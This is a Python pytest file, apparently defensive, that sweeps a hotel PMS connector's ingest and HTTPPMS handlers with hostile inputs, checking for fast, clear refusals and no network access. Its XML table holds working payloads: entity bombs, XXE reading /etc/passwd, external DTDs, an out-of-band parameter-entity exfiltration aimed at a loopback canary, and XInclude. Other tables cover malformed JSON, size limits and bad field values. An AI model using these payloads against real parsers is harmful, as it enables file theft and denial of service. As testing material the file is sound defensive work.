"""Hostile input against both APIs, through the real handlers on moto: one systematic, table-driven sweep.

Every input must get a refusal that names the problem — ingest: a 4xx with a JSON ``error``; HTTPPMS: HTTP
200 with a code 200-225 (or the one 401) and a ``description``, in XML when the request was XML — never a
5xx or a stack trace, and quickly: a bomb must not stall a container.

The tables: XML attacks (entity bombs, XXE over file:// and http://, external DTDs, parameter entities,
XInclude, any DOCTYPE, encodings, nesting, element counts, the size limit); JSON structure and encodings
(invalid UTF-8, UTF-16/32, BOMs, NUL bytes, nesting, duplicate keys, base64 bodies, wrong content types);
every size limit just under and just over (api.HTTPPMS_MAX_BODY_BYTES, ingest.MAX_BODY_BYTES,
MAX_RECORDS, MAX_RECORD_BYTES); wrong values for every field class of the records and requests; 1 MB
strings; numbers such as 1e999 and NaN. Then authentication: MD5 token replay and clock skew (window edges,
DST changes, far time zones), one property's credentials against another (the same answer as unknown
credentials: no oracle), and the secret comparisons (hmac.compare_digest, checked through the handlers).

The unit tests (test_xmlcodec.py, test_auth.py) and the integration tests cover single cases of several of
these; this file sweeps them all through the deployed handlers. Product bugs found here are the
``xfail(strict=True)`` tests at the end: each states the behaviour it expects.
"""

from __future__ import annotations

import base64
import contextlib
import hmac
import json
import os
import socket
import time
from collections.abc import Iterator
from dataclasses import dataclass, field, replace
from datetime import UTC, datetime, timedelta
from typing import Any
from zoneinfo import ZoneInfo

import pytest

from pms_connector import api
from pms_connector.api import HTTPPMS_MAX_BODY_BYTES
from pms_connector.auth import md5_stamp, md5_token
from pms_connector.ingest import MAX_BODY_BYTES, MAX_RECORD_BYTES, MAX_RECORDS
from tests.conftest import Deployment
from tests.helpers import (
    DEMO_INGEST_KEY,
    DEMO_PASSWORD,
    DEMO_USER,
    RESORT_INGEST_KEY,
    RESORT_TOKEN,
    basic,
    http_event,
    httppms_event,
    ingest_event,
    signed,
)

INGEST, HTTPPMS = "IngestFunction", "HttppmsFunction"
FULL = os.environ.get("PMS_RELIABILITY_FULL", "") not in ("", "0")  # as tests/reliability/conftest.py
# Work done for one request, in CPU seconds of the calling thread: a bomb burns CPU, and CPU time is not
# inflated by other processes on a loaded machine. The wall clock gets a looser bound.
CPU_LIMIT, WALL_LIMIT = 1.0, 5.0
STAMP = "2026-01-01T10:00:00"
AUTH_FAILED = {"code": 204, "description": "authentication failed"}
INGEST_AUTH_FAILED = {"error": "missing or invalid ingest API key"}
XML = "application/xml"
# The quick run (the default test target) leaves out the tables a regression is least likely to hit.
full_only = pytest.mark.skipif(not FULL, reason="full reliability run only (PMS_RELIABILITY_FULL=1, make reliability)")


# --- sending one input and judging the answer -----------------------------------------------------------


@dataclass(frozen=True)
class Hostile:
    """One hostile input and the refusal it must get."""

    name: str
    api: str  # "ingest" or "httppms"
    body: bytes
    content_type: str = "application/json"
    as_base64: bool = False  # API Gateway sends a non-UTF-8 body base64-encoded anyway
    headers: dict[str, str] = field(default_factory=dict)
    statuses: tuple[int, ...] = (400,)  # the HTTP statuses allowed
    codes: tuple[int, ...] = ()  # HTTPPMS codes allowed (any refusal 200-225 when empty and status 200)
    names: str = ""  # a word the answer must use to name the problem
    path_property: str | None = None  # the URL's property (ingest: demo-hotel when None; HTTPPMS: /httppms)
    cpu_limit: float = CPU_LIMIT  # the wall clock may take WALL_LIMIT times as long


@dataclass
class Answer:
    status: int
    content_type: str
    text: str
    cpu: float
    wall: float

    def json(self) -> Any:
        return json.loads(self.text)


def send(deployment: Deployment, case: Hostile) -> Answer:
    """Invoke the handler with the input as API Gateway would deliver it."""
    try:
        text = case.body.decode("utf-8")
        encoded = case.as_base64
    except UnicodeDecodeError:
        text, encoded = "", True
    raw = base64.b64encode(case.body).decode("ascii") if encoded else text
    headers = {"content-type": case.content_type, **case.headers}
    if case.api == "ingest":
        key = headers.pop("authorization", f"Bearer {DEMO_INGEST_KEY}").removeprefix("Bearer ")
        event = ingest_event(case.path_property or "demo-hotel", None, key=key, raw_body=raw, headers=headers)
    else:
        event = httppms_event(None, raw_body=raw, headers=headers, property_in_path=case.path_property)
    event["isBase64Encoded"] = encoded
    cpu, wall = time.thread_time(), time.monotonic()
    response = deployment.invoke(INGEST if case.api == "ingest" else HTTPPMS, event)
    cpu, wall = time.thread_time() - cpu, time.monotonic() - wall
    return Answer(response["statusCode"], response["headers"]["Content-Type"], response["body"], cpu, wall)


def judge(case: Hostile, answer: Answer) -> list[str]:
    """Every way the answer falls short of a clear, quick refusal (empty when it is one)."""
    problems = []
    if answer.status >= 500:
        problems.append(f"HTTP {answer.status}")
    if answer.status not in case.statuses:
        problems.append(f"HTTP {answer.status}, expected one of {case.statuses}")
    if answer.cpu > case.cpu_limit or answer.wall > WALL_LIMIT * case.cpu_limit:
        problems.append(f"took {answer.cpu:.2f} s CPU, {answer.wall:.2f} s")
    if "Traceback" in answer.text or 'File "' in answer.text or "root:x:" in answer.text:
        problems.append("a stack trace or file content in the answer")
    try:
        answer.text.encode("utf-8")
        code, description = reading(case, answer)
    except (ValueError, KeyError, TypeError, AssertionError) as exc:
        return [*problems, f"unreadable answer: {exc!r}"]
    if case.api == "httppms":
        allowed = case.codes or ((204,) if answer.status == 401 else tuple(range(200, 226)))
        if code not in allowed:
            problems.append(f"code {code}, expected one of {allowed}")
    if code != 0 and not description.strip():
        problems.append("no description of the problem")
    if case.names and case.names.lower() not in description.lower():
        problems.append(f"the answer does not name {case.names!r}")
    return problems


def reading(case: Hostile, answer: Answer) -> tuple[int | None, str]:
    """(HTTPPMS code or None, the text describing the problem) from a JSON or XML answer."""
    if case.api == "ingest":
        assert answer.content_type.startswith("application/json"), answer.content_type
        body = answer.json()
        if answer.status < 300:
            return 0, ""
        assert isinstance(body.get("error"), str) and body["error"].strip(), "no 'error' naming the problem"
        return None, json.dumps(body, ensure_ascii=False)  # the error and, for invalid records, every issue
    if is_xml(case.content_type):
        from lxml import etree

        assert answer.content_type.startswith("application/xml"), answer.content_type
        doc = etree.fromstring(answer.text.encode("utf-8"), etree.XMLParser(resolve_entities=False, no_network=True))
        return int(doc.findtext("code")), doc.findtext("description") or ""
    assert answer.content_type.startswith("application/json"), answer.content_type
    body = answer.json()
    return int(body["code"]), str(body.get("description", ""))


def is_xml(content_type: str) -> bool:
    media = content_type.partition(";")[0].strip().lower()
    return media in ("application/xml", "text/xml") or media.endswith("+xml")


def sweep(deployment: Deployment, cases: list[Hostile]) -> dict[str, Answer]:
    """Send every case; fail once at the end listing every case that was not a clear, quick refusal."""
    names = [c.name for c in cases]
    assert len(set(names)) == len(names), "case names must be unique"
    warm_up(deployment)
    answers, failures = {}, []
    for case in cases:
        answer = send(deployment, case)
        answers[case.name] = answer
        problems = judge(case, answer)
        if problems:
            failures.append(f"{case.name}: {'; '.join(problems)} — {answer.status} {answer.text[:240]!r}")
    assert not failures, f"{len(failures)} of {len(cases)} inputs:\n" + "\n".join(failures)
    return answers


def warm_up(deployment: Deployment) -> None:
    """The first call of a container imports its modules: not part of any input's time."""
    deployment.invoke(INGEST, ingest_event("demo-hotel", [], key=DEMO_INGEST_KEY))
    for content_type in ("application/json", XML):
        deployment.invoke(HTTPPMS, httppms_event(None, raw_body="<r/>", headers={"content-type": content_type}))


# --- request builders --------------------------------------------------------------------------------------


def hotel(fields: dict[str, Any]) -> dict[str, Any]:
    """A demo-hotel request with a valid MD5 token for now."""
    return signed({"property": "demo-hotel", **fields})


def resort(fields: dict[str, Any]) -> dict[str, Any]:
    """A demo-resort request (fixed token): its datetime is free, so it reaches validation like any field."""
    return {"datetime": STAMP, "property": "demo-resort", "usertoken": RESORT_TOKEN, **fields}


def dumps(value: Any) -> bytes:
    return json.dumps(value, ensure_ascii=False).encode("utf-8")


def xml_fields(fields: dict[str, Any]) -> str:
    return "".join(f"<{k}>{v}</{k}>" for k, v in fields.items())


def xml_request(extra: str = "", prolog: str = "") -> bytes:
    """A signed XML GET_REQUEST (valid credentials, so only the XML defences can refuse it)."""
    signed_fields = hotel({"action": "GET_REQUEST"})
    return f"{prolog}<request>{xml_fields(signed_fields)}{extra}</request>".encode()


def dnd(room: str = "101", **extra: Any) -> dict[str, Any]:
    return {"datetime": STAMP, "action": "DND", "room": room, "active": True, **extra}


def padded(document: bytes, size: int) -> bytes:
    """The document followed by whitespace up to exactly ``size`` bytes (whitespace is valid JSON and XML)."""
    assert len(document) <= size
    return document + b" " * (size - len(document))


# --- a canary for network access -------------------------------------------------------------------------


@dataclass
class Canary:
    """A TCP port listening on loopback, to see whether anything connected to it."""

    server: socket.socket

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server.getsockname()[1]}"

    def connections(self) -> int:
        count = 0
        with contextlib.suppress(BlockingIOError):
            while True:
                self.server.accept()[0].close()
                count += 1
        return count


@pytest.fixture
def canary() -> Iterator[Canary]:
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    server.setblocking(False)
    with server:
        yield Canary(server)


# --- XML ----------------------------------------------------------------------------------------------------


def xml_attacks(url: str) -> list[Hostile]:
    lol = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    bombs = [  # (name, DOCTYPE, what the document then references)
        ("billion laughs", f'<!DOCTYPE r [<!ENTITY l0 "lol">{lol}]>', "&l9;"),
        ("quadratic blowup", f'<!DOCTYPE r [<!ENTITY a "{"a" * 50_000}">]>', "&a;" * 4_000),
        ("xxe file", '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "&x;"),
        ("xxe http", f'<!DOCTYPE r [<!ENTITY x SYSTEM "{url}/secret">]>', "&x;"),
        ("xxe php filter", '<!DOCTYPE r [<!ENTITY x SYSTEM "php://filter/resource=/etc/passwd">]>', "&x;"),
        ("external dtd", f'<!DOCTYPE request SYSTEM "{url}/evil.dtd">', ""),
        ("public dtd", f'<!DOCTYPE request PUBLIC "-//EVIL//DTD x//EN" "{url}/evil.dtd">', ""),
        ("parameter entity", f'<!DOCTYPE r [<!ENTITY % p SYSTEM "{url}/p.dtd"> %p;]>', ""),
        ("parameter entity out of band", '<!DOCTYPE r [<!ENTITY % f SYSTEM "file:///etc/passwd">'
         f'<!ENTITY % d "<!ENTITY e SYSTEM \'{url}/?%f;\'>"> %d;]>', "&e;"),
        ("doctype alone", "<!DOCTYPE request>", ""),
        ("doctype lower case", "<!doctype request>", ""),
        ("internal entity", '<!DOCTYPE r [<!ENTITY x "GET_REQUEST">]>', "&x;"),
    ]
    cases = [Hostile(f"xml {name}", "httppms", xml_request(f"<note>{reference}</note>", prolog), XML, statuses=(200,),
                     codes=(200,), names="DTD") for name, prolog, reference in bombs]
    billion_laughs = cases[0].body
    schema_location = (f'<request xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
                       f'xsi:schemaLocation="x {url}/s.xsd">').encode()
    cases += [
        Hostile("xml doctype after the root", "httppms", xml_request() + b"<!DOCTYPE x>", XML, statuses=(200,),
                codes=(200,)),
        Hostile("xml entity hidden in cdata", "httppms", xml_request("<note><![CDATA[<!ENTITY x 'y'>]]></note>"),
                XML, statuses=(200,), codes=(200,), names="DTD"),
        Hostile("xml bomb as text/xml", "httppms", billion_laughs, "text/xml", statuses=(200,), codes=(200,)),
        Hostile("xml bomb as soap+xml", "httppms", billion_laughs, "application/soap+xml", statuses=(200,),
                codes=(200,)),
        Hostile("xml bomb base64", "httppms", billion_laughs, XML, as_base64=True, statuses=(200,), codes=(200,)),
        Hostile("xml utf-16 with bom", "httppms", xml_request().decode().encode("utf-16"), XML, statuses=(200,),
                codes=(200,), names="UTF-8"),
        Hostile("xml utf-16 declared", "httppms", b'<?xml version="1.0" encoding="UTF-16"?>' + xml_request(), XML,
                statuses=(200,), codes=(0,)),  # the declaration is ignored: the bytes are UTF-8
        Hostile("xml latin-1 bytes", "httppms", b'<?xml version="1.0" encoding="ISO-8859-1"?>'
                + xml_request("<note>café</note>").replace("é".encode(), b"\xe9"), XML, statuses=(200,), codes=(200,),
                names="UTF-8"),
        Hostile("xml utf-7 declaration", "httppms",
                b'<?xml version="1.0" encoding="UTF-7"?>' + xml_request("<note>+ADw-!DOCTYPE r+AD4-</note>"), XML,
                statuses=(200,), codes=(0,)),  # read as UTF-8: no hidden DOCTYPE, a plain GET_REQUEST
        Hostile("xml nul byte", "httppms", xml_request("<note>a\x00b</note>"), XML, statuses=(200,), codes=(200,)),
        Hostile("xml nul char reference", "httppms", xml_request("<note>&#0;</note>"), XML, statuses=(200,),
                codes=(200,)),
        Hostile("xml surrogate char reference", "httppms", xml_request("<note>&#xD800;</note>"), XML,
                statuses=(200,), codes=(200,)),
        Hostile("xml control char", "httppms", xml_request("<note>\x01</note>"), XML, statuses=(200,), codes=(200,)),
        Hostile("xml undeclared entity", "httppms", xml_request("<note>&nope;</note>"), XML, statuses=(200,),
                codes=(200,)),
        Hostile("xml nesting 9 levels", "httppms", xml_request("<a>" * 8 + "x" + "</a>" * 8), XML, statuses=(200,),
                codes=(200,), names="nesting"),
        Hostile("xml nesting 30000 levels", "httppms", xml_request("<a>" * 30_000 + "</a>" * 30_000), XML,
                statuses=(200,), codes=(200,)),
        Hostile("xml 2001 elements", "httppms", xml_request("".join(f"<f{i}>1</f{i}>" for i in range(2_001))), XML,
                statuses=(200,), codes=(200,), names="elements"),
        Hostile("xml repeated field", "httppms", xml_request("<room>1</room><room>2</room>"), XML, statuses=(200,),
                codes=(200,), names="repeated"),
        Hostile("xml mixed content", "httppms", xml_request("<note>a<b>1</b>c</note>"), XML, statuses=(200,),
                codes=(200,)),
        Hostile("xml text in the root", "httppms", b"<request>GET_REQUEST</request>", XML, statuses=(200,),
                codes=(200,)),
        Hostile("xml unclosed", "httppms", xml_request()[:-5], XML, statuses=(200,), codes=(200,)),
        Hostile("xml empty body", "httppms", b"", XML, statuses=(200,), codes=(200,)),
        Hostile("xml garbage", "httppms", b"\x00\xff<<<>>>", XML, statuses=(200,), codes=(200,)),
        Hostile("xml json body", "httppms", dumps(hotel({"action": "GET_REQUEST"})), XML, statuses=(200,),
                codes=(200,)),
        Hostile("xml over the size limit", "httppms", padded(xml_request(), HTTPPMS_MAX_BODY_BYTES + 1), XML,
                statuses=(200,), codes=(206,)),
        Hostile("xml at the size limit", "httppms", padded(xml_request(), HTTPPMS_MAX_BODY_BYTES), XML,
                statuses=(200,), codes=(0,)),
        Hostile("xml huge attribute", "httppms", xml_request(f'<note a="{"x" * 200_000}"/>'), XML, statuses=(200,),
                codes=(0,)),  # attributes are ignored
        Hostile("xml processing instruction", "httppms",
                xml_request(prolog=f'<?xml-stylesheet type="text/xsl" href="{url}/x.xsl"?>'), XML,
                statuses=(200,), codes=(0,)),  # removed, never fetched
        Hostile("xml xinclude file", "httppms",
                xml_request('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" '
                            'parse="text"/>'), XML, statuses=(200,), codes=(0,)),  # an empty field, never included
        Hostile("xml xinclude http", "httppms",
                xml_request(f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{url}/x"/>'), XML,
                statuses=(200,), codes=(0,)),
        Hostile("xml schema location", "httppms", xml_request().replace(b"<request>", schema_location), XML,
                statuses=(200,), codes=(0,)),  # never fetched
    ]
    return cases


def test_xml_attacks_are_refused_without_network_or_file_access(deployment: Deployment, canary: Canary) -> None:
    answers = sweep(deployment, xml_attacks(canary.url))
    assert canary.connections() == 0, "the XML parser connected to the network"
    assert all("root:" not in a.text for a in answers.values())


# --- JSON structure and encodings ----------------------------------------------------------------------


def structure_cases() -> list[Hostile]:
    record = dumps(dnd())
    request = dumps(resort({"action": "DND", "room": "101", "active": True}))
    cases = []
    for api_name, body, refused, accepted, code in (("ingest", record, (400,), (202,), ()),
                                                    ("httppms", request, (200,), (200,), (200,))):
        ok = Hostile("", api_name, body, statuses=accepted, codes=(0,) if api_name == "httppms" else ())
        bad = Hostile("", api_name, body, statuses=refused, codes=code)
        inner = body[1:-1]
        cases += [
            variant(bad, f"{api_name} empty body", b""),
            variant(bad, f"{api_name} whitespace only", b" \r\n\t "),
            variant(bad, f"{api_name} null", b"null"),
            variant(bad, f"{api_name} a string", b'"DND"'),
            variant(bad, f"{api_name} a number", b"42"),
            variant(bad, f"{api_name} truncated", body[:-1]),
            variant(bad, f"{api_name} trailing garbage", body + b"}"),
            variant(bad, f"{api_name} two documents", body + body),
            variant(bad, f"{api_name} single quotes", body.replace(b'"', b"'")),
            variant(bad, f"{api_name} comments", b"/*x*/" + body),
            variant(bad, f"{api_name} invalid utf-8 ff", b"{" + inner + b',"x":"\xff"}'),
            variant(bad, f"{api_name} overlong utf-8", b"{" + inner + b',"x":"\xc0\xaf"}'),
            variant(bad, f"{api_name} truncated utf-8", b"{" + inner + b',"x":"\xe2\x82"}'),
            variant(bad, f"{api_name} 5-byte utf-8", b"{" + inner + b',"x":"\xf8\x88\x80\x80\x80"}'),
            variant(bad, f"{api_name} utf-8 above U+10FFFF", b"{" + inner + b',"x":"\xf4\x90\x80\x80"}'),
            variant(bad, f"{api_name} nul byte outside a string", body[:-1] + b"\x00}"),
            variant(bad, f"{api_name} raw control char in a string", b"{" + inner + b',"x":"a\x01b"}'),
            variant(bad, f"{api_name} nesting 10000 arrays", b"[" * 10_000 + b"]" * 10_000),
            variant(bad, f"{api_name} nesting 10000 objects", b'{"a":' * 10_000 + b"1" + b"}" * 10_000),
            variant(bad, f"{api_name} empty base64 body", b"", as_base64=True),
            # Accepted on purpose: valid JSON, or an encoding json.loads detects (RFC 8259 allows readers to).
            variant(ok, f"{api_name} utf-8 bom", b"\xef\xbb\xbf" + body),
            variant(ok, f"{api_name} utf-16 with bom", body.decode().encode("utf-16")),
            variant(ok, f"{api_name} utf-16-be without bom", body.decode().encode("utf-16-be")),
            variant(ok, f"{api_name} utf-32", body.decode().encode("utf-32")),
            variant(ok, f"{api_name} base64 body", body, as_base64=True),
            variant(ok, f"{api_name} nul char escaped in a string", b"{" + inner + b',"x":"a\\u0000b"}'),
            # A record reaches pmslink in XML too, so ingest refuses nesting an XML answer cannot hold (wire.py).
            variant(ok if api_name == "httppms" else bad, f"{api_name} nesting 500 in an extra field",
                    b"{" + inner + b',"x":' + b"[" * 500 + b"]" * 500 + b"}"),
            variant(ok, f"{api_name} nesting 15 in an extra field", b"{" + inner + b',"x":' + b"[" * 15
                    + b"]" * 15 + b"}"),
            variant(ok, f"{api_name} 1e-999 in an extra field", b"{" + inner + b',"x":1e-999}'),
        ]
    return cases


def variant(case: Hostile, name: str, body: bytes, **changes: Any) -> Hostile:
    return replace(case, name=name, body=body, **changes)


def test_malformed_json_bodies_and_encodings_are_refused_clearly(deployment: Deployment) -> None:
    sweep(deployment, structure_cases())


@full_only
def test_bodies_that_are_not_base64_though_flagged_so_are_refused(deployment: Deployment) -> None:
    # send() encodes what it is given; here the event itself carries text that is not base64.
    for logical_id, event in ((INGEST, ingest_event("demo-hotel", None, raw_body="@@ not base64 @@")),
                              (HTTPPMS, httppms_event(None, raw_body="@@ not base64 @@"))):
        event["isBase64Encoded"] = True
        response = deployment.invoke(logical_id, event)
        body = json.loads(response["body"])
        assert response["statusCode"] in (200, 400)
        assert "base64" in json.dumps(body)
        assert body.get("code", 200) == 200


# --- size limits: just under and just over ------------------------------------------------------------------


def size_cases() -> list[Hostile]:
    one_record = dumps(dnd())
    request = dumps(hotel({"action": "GET_REQUEST"}))
    records = [dnd(str(i)) for i in range(MAX_RECORDS + 1)]
    # A record of exactly MAX_RECORD_BYTES as the connector measures it (compact JSON), and one byte more.
    base = len(json.dumps(dnd(note=""), ensure_ascii=False, separators=(",", ":")).encode())
    at_limit = dnd(note="x" * (MAX_RECORD_BYTES - base))
    over_limit = dnd(note="x" * (MAX_RECORD_BYTES - base + 1))
    mega = "x" * 1_048_576
    return [
        Hostile("ingest body at the size limit", "ingest", padded(one_record, MAX_BODY_BYTES), statuses=(202,)),
        Hostile("ingest body one byte over", "ingest", padded(one_record, MAX_BODY_BYTES + 1), statuses=(413,),
                names="larger"),
        Hostile("ingest base64 body one byte over", "ingest", padded(one_record, MAX_BODY_BYTES + 1),
                as_base64=True, statuses=(413,), names="larger"),
        # Accepted: moto, in this process, writes the 100 records and their state (not a refusal's work).
        Hostile("ingest 100 records", "ingest", dumps(records[:MAX_RECORDS]), statuses=(202,), cpu_limit=5.0),
        Hostile("ingest 101 records", "ingest", dumps(records), statuses=(400,), names=f"at most {MAX_RECORDS}"),
        Hostile("ingest 100000 records", "ingest", b"[" + b",".join([b"{}"] * 100_000) + b"]", statuses=(400,),
                names=f"at most {MAX_RECORDS}"),
        Hostile("ingest record at the record limit", "ingest", dumps(at_limit), statuses=(202,)),
        Hostile("ingest record one byte over", "ingest", dumps([dnd(), over_limit]), statuses=(400,),
                names="(record)"),
        Hostile("ingest 1 MB string", "ingest", dumps(dnd(note=mega)), statuses=(413,)),
        Hostile("ingest 1 MB key", "ingest", dumps(dnd(**{mega: 1})), statuses=(413,)),
        Hostile("ingest 900 KB room", "ingest", dumps(dnd(room="1" * 900_000)), statuses=(400,), names="room"),
        Hostile("ingest 20000 keys", "ingest", dumps(dnd(**{f"k{i}": i for i in range(20_000)})), statuses=(400,),
                names="(record)"),
        Hostile("ingest 1 MB of empty objects", "ingest", b"[" + b",".join([b"{}"] * 340_000) + b"]",
                statuses=(400, 413)),
        Hostile("httppms body at the size limit", "httppms", padded(request, HTTPPMS_MAX_BODY_BYTES),
                statuses=(200,), codes=(0,)),
        Hostile("httppms body one byte over", "httppms", padded(request, HTTPPMS_MAX_BODY_BYTES + 1),
                statuses=(200,), codes=(206,), names=str(HTTPPMS_MAX_BODY_BYTES)),
        Hostile("httppms base64 body one byte over", "httppms", padded(request, HTTPPMS_MAX_BODY_BYTES + 1),
                as_base64=True, statuses=(200,), codes=(206,)),
        Hostile("httppms 1 MB text", "httppms",
                dumps(hotel({"action": "MSGTXT", "room": "101", "text": mega})), statuses=(200,), codes=(206,)),
        Hostile("httppms 200 KB room", "httppms", dumps(resort({"action": "DND", "room": "1" * 200_000,
                                                                "active": True})),
                statuses=(200,), codes=(202,), names="room"),
        Hostile("httppms 200 KB action", "httppms", dumps(resort({"action": "A" * 200_000})), statuses=(200,),
                codes=(201,), names="unknown action"),
        Hostile("httppms 200 KB usertoken", "httppms", dumps(resort({"action": "GET_REQUEST",
                                                                     "usertoken": "t" * 200_000})),
                statuses=(401,), codes=(204,)),
        Hostile("httppms 200 KB property", "httppms", dumps(resort({"action": "GET_REQUEST",
                                                                    "property": "p" * 200_000})),
                statuses=(401,), codes=(204,)),
        Hostile("httppms 15000 keys", "httppms", dumps(resort({"action": "GET_REQUEST",
                                                               **{f"k{i}": i for i in range(15_000)}})),
                statuses=(200,), codes=(0,)),
    ]


def test_every_size_limit_holds_just_under_and_just_over(deployment: Deployment) -> None:
    sweep(deployment, size_cases())


# --- wrong values for every field class ------------------------------------------------------------------------

# Bad values per field class of records.py: (value, label).
NOT_TEXT = [(None, "null"), (True, "bool"), (101, "number"), ([], "list"), ({}, "object"), ("", "empty")]
BAD_DATETIMES = [(20260101, "number"), ("2026-02-30T10:00:00", "no such day"), ("2026-01-01 10:00:00", "space"),
                 ("\uff12\uff10\uff12\uff16-01-01T10:00:00", "fullwidth digits"),
                 ("2026-01-01T10:00:00Z", "zone suffix"),
                 ("2026-01-01T24:00:00", "hour 24"), ("9999-99-99T99:99:99", "nines"), ("", "empty"),
                 ("2026-01-01T10:00:00.5", "fraction")]
BAD_BOOLS = [("perhaps", "word"), (2, "two"), (None, "null"), ([], "list"), (1.5, "fraction")]
BAD_INTS = [(-1, "negative"), (1.5, "fraction"), ("x", "text"), (None, "null"), ([], "list"), (1e999, "inf"),
            ("1e3", "exponent text")]
BAD_AMOUNTS = [("x", "text"), (1e999, "inf"), (-1e999, "-inf"), ("NaN", "nan text"), ("Infinity", "inf text"),
               (123456789012345, "15 digits"), (0.00001, "5 decimals"), ([], "list"), (True, "bool")]


def httppms_field_cases() -> list[Hostile]:
    """Every field class of the requests, each wrong value in one request: code 202 naming the field."""
    valid = {
        "POST": {"room": "101", "post_type": "M", "article": "WA", "units": 1, "amount": 2.5},
        "CALL": {"room": "101", "call_type": "O", "number": "600111222", "duration": 30},
        "WAKE": {"room": "101", "mode": "E", "waketime": STAMP},
        "DND": {"room": "101", "active": True},
        "RS": {"room": "101", "status": "C"},
        "MSGTXT": {"room": "101", "text": "hello"},
        "BILL_REQUEST": {"room": "101"},
        "GET_REQUEST": {},
    }
    sweeps: list[tuple[str, str, list[tuple[Any, str]]]] = [
        ("DND", "datetime", BAD_DATETIMES),
        ("DND", "room", [*NOT_TEXT, ("x" * 33, "33 chars")]),
        ("DND", "active", BAD_BOOLS),
        ("RS", "status", [*NOT_TEXT, ("x" * 257, "257 chars")]),
        ("RS", "maid", [(5, "number"), ("x" * 257, "257 chars")]),
        ("MSGTXT", "text", [*NOT_TEXT, ("x" * 2_001, "2001 chars")]),
        ("MSGTXT", "uid", [(1.5, "fraction"), ([], "list"), ("", "empty"), ("x" * 129, "129 chars"),
                           (True, "bool")]),
        ("POST", "units", [(0, "zero"), *BAD_AMOUNTS, (1.0001, "4 decimals"), (10**10, "11 digits")]),
        ("POST", "amount", BAD_AMOUNTS),
        ("POST", "price", BAD_AMOUNTS),
        ("POST", "post_type", [*NOT_TEXT, ("x" * 9, "9 chars")]),
        ("POST", "booking_uid", [(5, "number"), ("x" * 257, "257 chars")]),
        ("CALL", "duration", BAD_INTS),
        ("CALL", "response", [v for v in BAD_INTS if v[0] is not None]),  # optional: null is fine
        ("CALL", "call_type", [("X", "unknown"), ("o", "lower case"), (0, "number"), (None, "null")]),
        ("CALL", "number", [*NOT_TEXT, ("1" * 65, "65 digits")]),
        ("WAKE", "mode", [("Z", "unknown"), ("", "empty"), ("s", "lower case"), (1, "number")]),
        ("WAKE", "waketime", BAD_DATETIMES),
        ("GET_REQUEST", "confirm", [(5, "number"), ([], "list"), ("x" * 257, "257 chars")]),
        ("BILL_REQUEST", "account", [(5, "number"), ("", "empty")]),
    ]
    cases = []
    for action, name, values in sweeps:
        for value, label in values:
            body = dumps(resort({"action": action, **valid[action], name: value}))
            cases.append(Hostile(f"httppms {action}.{name} {label}", "httppms", body, statuses=(200,), codes=(202,),
                                 names=name))
    for value, label in [(None, "null"), (5, "number"), ([], "list"), ("", "empty")]:
        cases.append(Hostile(f"httppms action {label}", "httppms", dumps(resort({"action": value})),
                             statuses=(200,), codes=(202,), names="action"))
    for value, label in [("FLY", "unknown"), ("GET_REQUEST\u0000", "nul suffix"), ("GET REQUEST", "space")]:
        cases.append(Hostile(f"httppms action {label}", "httppms", dumps(resort({"action": value})),
                             statuses=(200,), codes=(201,), names="unknown action"))
    cases += [
        Hostile("httppms property number", "httppms", dumps({**resort({"action": "GET_REQUEST"}), "property": 5}),
                statuses=(200,), codes=(202,), names="property"),
        Hostile("httppms property missing", "httppms", dumps({"action": "GET_REQUEST"}), statuses=(200,),
                codes=(202,), names="property"),
        Hostile("httppms POST without amount or price", "httppms",
                dumps(resort({"action": "POST", "room": "1", "post_type": "M", "article": "WA", "units": 1})),
                statuses=(200,), codes=(202,), names="amount"),
        # The MD5 datetime is also the token's: a wrong one is a failed authentication, as any bad credential.
        Hostile("httppms md5 datetime number", "httppms", dumps({**hotel({"action": "GET_REQUEST"}),
                                                                 "datetime": 20260101}),
                statuses=(401,), codes=(204,)),
        Hostile("httppms md5 usertoken number", "httppms", dumps({**hotel({"action": "GET_REQUEST"}),
                                                                  "usertoken": 5}),
                statuses=(401,), codes=(204,)),
        Hostile("httppms md5 user list", "httppms", dumps({**hotel({"action": "GET_REQUEST"}), "user": ["pmslink"]}),
                statuses=(401,), codes=(204,)),
    ]
    return cases


def ingest_field_cases() -> list[Hostile]:
    """Every field class of the PMS records, each wrong value in one record: 400 naming the field."""
    guest = {"uid": "g1", "name": "Ana", "surname": "Ruiz", "language": "es"}
    valid = {
        "BOOKING": {"booking_uid": "bk-1", "status": "expected", "arrival": STAMP, "departure": "2026-01-03T10:00:00",
                    "GUEST_LIST": [guest]},
        "RS": {"room": "101", "status": "C"},
        "MUR": {"room": "101", "active": True},
        "COS": {"room": "101", "cos_pbx": "1", "cos_tv": "1", "cos_inet": "1"},
        "WMSG": {"room": "101", "active": True},
        "WAKE": {"room": "101", "mode": "S", "uid": "w1", "waketime": "2035-01-02T08:00:00"},
        "DND": {"room": "101", "active": True},
        "MSGTXT": {"room": "101", "text": "hello"},
    }
    guest_values = [("Ana", "text"), (["Ana"], "list of text"), ([{}], "empty guest"),
                    ([guest] * 51, "51 guests"), ([{**guest, "language": "esp"}], "language esp"),
                    ([{**guest, "language": 12}], "language number"), ([{**guest, "name": "x" * 257}], "long name"),
                    ([{**guest, "main": "perhaps"}], "main word"), ([{**guest, "uid": 1.5}], "uid fraction"),
                    ([{**guest, "email": 5}], "email number")]
    sweeps: list[tuple[str, str, list[tuple[Any, str]]]] = [
        ("DND", "datetime", BAD_DATETIMES),
        ("DND", "room", [*NOT_TEXT, ("x" * 33, "33 chars")]),
        ("DND", "active", BAD_BOOLS),
        ("MUR", "active", BAD_BOOLS),
        ("WMSG", "active", BAD_BOOLS),
        ("RS", "status", [*NOT_TEXT, ("x" * 257, "257 chars")]),
        ("COS", "cos_pbx", NOT_TEXT),
        ("WAKE", "mode", [("E", "result mode"), ("Z", "unknown"), ("", "empty"), (None, "null")]),
        ("WAKE", "uid", [(1.5, "fraction"), ([], "list"), ("", "empty"), (None, "null")]),
        ("WAKE", "waketime", [*BAD_DATETIMES, ("2020-01-01T08:00:00", "in the past")]),
        ("MSGTXT", "text", [*NOT_TEXT, ("x" * 2_001, "2001 chars")]),
        ("BOOKING", "status", [("checkedin", "unknown"), ("CHECKIN", "upper case"), (1, "number"), (None, "null")]),
